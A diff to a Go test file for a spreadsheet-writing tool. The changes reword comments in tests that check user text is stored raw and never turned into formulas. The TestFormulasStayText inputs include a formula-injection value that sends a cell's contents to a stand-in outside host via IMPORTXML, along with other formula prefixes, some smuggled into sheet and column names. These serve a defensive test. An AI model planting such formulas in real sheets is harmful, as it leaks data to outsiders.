@@ -20,7 +20,7 @@ const sheetTool = "write_rows_to_google_sheet"
 func TestRowsAreWrittenRaw(t *testing.T) {
 	w := newWorld(t)
 	want := [][]any{{"Name", "Hours"}, {"=1+1", 1.5}, {"", true}, {"", "[1]"}}
-	for range 2 { // the second time, the tab is there, and the same call leaves the same
+	for range 2 { // the second time the tab exists, and the same call changes nothing
 		var out sheets.Written
 		w.run(t, sheetTool, sheetArgs, &out)
 		expect.Same(t, sheets.Written{
@@ -31,7 +31,7 @@ func TestRowsAreWrittenRaw(t *testing.T) {
 	expect.Is(t, len(w.vendors.Tabs()), 1, "tabs")
 }
 
-// No text may become a formula: people who fill in a form could read other cells with it, and send them away.
+// No text may become a formula. With a formula, people who fill in a form could read other cells and send them away.
 func TestFormulasStayText(t *testing.T) {
 	w := newWorld(t)
 	texts := []string{`=IMPORTXML("https://example.com/?"&A1,"//a")`, `=HYPERLINK("https://example.com","x")`, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "'=1", "2026-03-31", "TRUE", "007"}
@@ -45,11 +45,11 @@ func TestFormulasStayText(t *testing.T) {
 		"spreadsheet_id": "ringi-demo-sheet", "sheet": "=A1", "columns": []any{map[string]string{"key": "v", "title": "=TITLE()"}}, "rows": rows,
 	}))(t)
 	var out sheets.Written
-	w.run(t, sheetTool, string(b), &out) // the stand-in refuses all but RAW
+	w.run(t, sheetTool, string(b), &out) // the stand-in refuses values that are not RAW
 	expect.Same(t, want, w.vendors.Rows("ringi-demo-sheet", "=A1"))
 }
 
-// table is a call that writes so many rows of so many columns.
+// table returns the arguments for a table with this many rows and columns.
 func table(t *testing.T, tab string, rows, columns int) string {
 	t.Helper()
 	var titles []map[string]string
@@ -89,7 +89,7 @@ func TestATabIsAsLargeAsItsTable(t *testing.T) {
 
 func TestASpreadsheetWithoutRoom(t *testing.T) {
 	for name, test := range map[string]struct {
-		others    int // rows of 1,000 cells in other tabs
+		others    int // number of rows of 1,000 cells in other tabs
 		tab       string
 		rows      int
 		full      bool
@@ -155,8 +155,8 @@ func TestAnUnknownSpreadsheet(t *testing.T) {
 	}
 }
 
-// Rows below a written table stay and are counted, since people find them there. A failed count does not undo the
-// write.
+// Rows below the written table are kept and counted, so that people know of them. If they can't be counted, the write
+// still succeeds.
 func TestRowsThatStandBelowATableAreCounted(t *testing.T) {
 	for name, test := range map[string]struct {
 		before func(t *testing.T, w *world)
@@ -197,7 +197,7 @@ func TestRowsThatStandBelowATableAreCounted(t *testing.T) {
 	}
 }
 
-// wrote is a table that was written before.
+// wrote returns a step that writes a table first.
 func wrote(rows, columns int) func(t *testing.T, w *world) {
 	return func(t *testing.T, w *world) {
 		var out sheets.Written
